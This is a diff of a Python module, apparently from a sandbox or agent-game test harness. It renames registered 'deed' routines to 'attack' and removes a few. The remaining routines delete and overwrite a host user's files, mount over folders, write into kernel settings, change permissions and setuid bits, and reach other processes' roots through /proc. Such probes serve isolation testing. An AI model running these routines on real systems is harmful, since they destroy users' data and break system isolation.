@@ -1,16 +1,15 @@
-"""Deeds against the files of others. `place.host` is a folder that belongs to the runner's user."""
+"""Attacks against the files of others. `place.host` is a folder that belongs to the runner's user."""
 
 import contextlib
 import fcntl
 import os
 import shutil
-import signal
 import socket
 import stat
 import struct
 import sys
 
-from .register import CRASH, MARK, PLAYS_ON, deed, done, host_main, libc, processes
+from .register import CRASH, MARK, PLAYS_ON, attack, done, host_main, libc, processes
 
 MB = 1 << 20
 kept = []
@@ -26,21 +25,13 @@ def files(folder):
             yield os.path.join(where, name)
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def removes_the_host(place):
     """Deletes all files of the runner's user that it was told of."""
     shutil.rmtree(place.host, ignore_errors=True)
 
 
-@deed(PLAYS_ON)
-def removes_what_it_was_called_by(place):
-    """Deletes its own folder and the one of the other agents, found by its own path."""
-    for path in files(os.path.dirname(OWN) if OWN.startswith(place.host) else os.getcwd()):
-        with contextlib.suppress(OSError):
-            os.unlink(path)
-
-
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def renames_its_folder(place):
     """Renames its own folder, the working folder and the host's."""
     for folder in (OWN if OWN.startswith(place.host) else place.host, os.getcwd(), place.host):
@@ -48,35 +39,25 @@ def renames_its_folder(place):
             os.rename(folder, folder + "." + MARK)
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def overwrites_the_host(place):
     """Writes into every file that it was told of."""
     for path in files(place.host):
         for how in ("r+b", "ab", "wb"):
             with contextlib.suppress(OSError), open(path, how) as file:
-                file.write(b"DEED")
+                file.write(b"ATTACK")
 
 
-@deed(PLAYS_ON)
-def poisons_the_caches(place):
-    """Puts compiled code beside its own files and the other agent's, for the next game."""
-    for folder in {os.path.dirname(path) for path in files(place.host)} | {OWN}:
-        with contextlib.suppress(OSError):
-            os.makedirs(os.path.join(folder, "__pycache__"), exist_ok=True)
-            with open(os.path.join(folder, "__pycache__", MARK + ".pyc"), "wb") as file:
-                file.write(b"DEED")
-
-
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def writes_everywhere(place):
     """Leaves a file in every folder where that works."""
     python = (sys.prefix, os.path.dirname(os.__file__), os.path.dirname(os.path.abspath(host_main().__file__)))
     for folder in (*SYSTEM, *python, os.path.expanduser("~root"), os.path.expanduser("~"), place.host, OWN):
         with contextlib.suppress(OSError), open(os.path.join(folder, MARK), "w") as file:
-            file.write("DEED")
+            file.write("ATTACK")
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def links_to_the_host(place):
     """Reaches the host's files by symbolic links and hard links in its working folder."""
     for number, path in enumerate(list(files(place.host))):
@@ -84,10 +65,10 @@ def links_to_the_host(place):
             with contextlib.suppress(OSError):
                 link(path, f"link{number}")
                 with open(f"link{number}", "ab") as file:
-                    file.write(b"DEED")
+                    file.write(b"ATTACK")
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def pipes_and_devices(place):
     """Makes a named pipe, a socket, and the devices of memory and disk."""
     with contextlib.suppress(OSError):
@@ -102,7 +83,7 @@ def pipes_and_devices(place):
             done("opened a device")
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def changes_rights(place):
     """Makes its files setuid, the host's files public and its folders closed."""
     with contextlib.suppress(OSError):
@@ -117,7 +98,7 @@ def changes_rights(place):
             os.setxattr(path, "user." + MARK, b"1")
 
 
-@deed(PLAYS_ON, CRASH)
+@attack(PLAYS_ON, CRASH)
 def mounts(place):
     """Mounts a file system over the host's files, and takes /proc and /tmp off."""
     for flags in (0, 0x10000000 | 0x20000):  # as it is; in a user and mount namespace of its own
@@ -130,7 +111,7 @@ def mounts(place):
                 done("unmounted " + target.decode())
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def writes_into_the_kernel(place):
     """Opens the kernel's settings in /proc/sys, /sys and the control groups to write."""
     for path in SETTINGS:
@@ -144,7 +125,7 @@ def writes_into_the_kernel(place):
         del folders[20:]
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def shared_memory_files(place):
     """Leaves files in /dev/shm and POSIX message queues."""
     for number in range(20):
@@ -153,19 +134,19 @@ def shared_memory_files(place):
     libc.mq_open(("/" + MARK).encode(), os.O_CREAT | os.O_RDWR, 0o600, None)
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def through_the_roots_of_others(place):
     """Reaches the host's files through root and cwd of all processes in /proc."""
     for pid in processes():
         for door in ("root", "cwd"):
             for path in list(files(place.host)) or [os.path.join(place.host, MARK)]:
                 with contextlib.suppress(OSError), open(f"/proc/{pid}/{door}/{path}", "ab") as file:
-                    file.write(b"DEED")
+                    file.write(b"ATTACK")
             with contextlib.suppress(OSError), open(f"/proc/{pid}/{door}{place.host}/{MARK}", "w") as file:
-                file.write("DEED")
+                file.write("ATTACK")
 
 
-@deed(PLAYS_ON)
+@attack(PLAYS_ON)
 def locks_files(place):
     """Locks every file that it can open, by flock and as SQLite does, so that nobody else can write into it."""
     locked = set()
@@ -178,15 +159,3 @@ def locks_files(place):
                 locked.add(os.path.basename(path))
     if locked:
         done("locked " + " ".join(sorted(locked)))
-
-
-@deed(PLAYS_ON)
-def leases_files(place):
-    """Takes a lease on every file that it can open: whoever writes into it must wait for 45 seconds."""
-    signal.signal(signal.SIGIO, signal.SIG_IGN)
-    for path in [*files(place.host), *files(OWN)]:
-        with contextlib.suppress(OSError):
-            kept.append(os.open(path, os.O_RDONLY))
-            fcntl.fcntl(kept[-1], fcntl.F_SETLEASE, fcntl.F_RDLCK)
-            done("has a lease on " + os.path.basename(path))
-            return
